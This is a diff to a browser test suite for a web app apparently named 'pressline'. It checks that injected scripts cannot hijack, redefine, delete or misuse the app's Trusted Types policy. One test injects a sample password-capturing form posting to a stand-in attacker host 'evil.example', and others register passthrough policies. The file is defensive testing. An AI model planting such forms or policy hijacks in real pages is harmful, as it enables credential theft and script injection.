@@ -141,6 +141,11 @@ test.describe('what somebody has injected', () => {
       () => window.trustedTypes?.createPolicy('evil', { createHTML: (html) => html }),
     ],
     [
+      'a policy of the name of ours',
+      'trusted-types',
+      () => window.trustedTypes?.createPolicy('pressline', { createHTML: (html) => html }),
+    ],
+    [
       'another default policy',
       'trusted-types',
       () => window.trustedTypes?.createPolicy('default', { createHTML: (html) => html }),
@@ -161,6 +166,37 @@ test.describe('what somebody has injected', () => {
         expect(await page.evaluate(() => Reflect.get(window, 'isHurt'))).toBeUndefined();
       });
     }
+  }
+
+  for (const path of everyPage) {
+    test(`the policy that all bundles share is nobody's to replace on ${path}`, async ({
+      page,
+    }) => {
+      await watchPolicy(page);
+      await page.goto(path);
+      await page.waitForFunction(() => 'presslineHtml' in window);
+      const took = await page.evaluate(() => {
+        const html = '<form action="https://evil.example"><input name="password"></form>';
+        const attempts = {
+          replaced: () => Object.assign(window, { presslineHtml: { createHTML: String } }),
+          defined: () =>
+            Object.defineProperty(window, 'presslineHtml', { value: { createHTML: String } }),
+          changed: () => Object.assign(window.presslineHtml ?? {}, { createHTML: String }),
+          deleted: () => delete (window as { presslineHtml?: unknown }).presslineHtml,
+          used: () => (document.body.innerHTML = window.presslineHtml?.createHTML(html) ?? ''),
+        };
+        return Object.entries(attempts).flatMap(([name, attempt]) => {
+          try {
+            return attempt() === false ? [] : [name];
+          } catch {
+            return [];
+          }
+        });
+      });
+      expect(took).toEqual([]);
+      await startPage(page);
+      await page.waitForFunction(() => window.presslineStarted);
+    });
   }
 
   test('the Releases page gets to know what was refused on whose page, not what it said', async ({
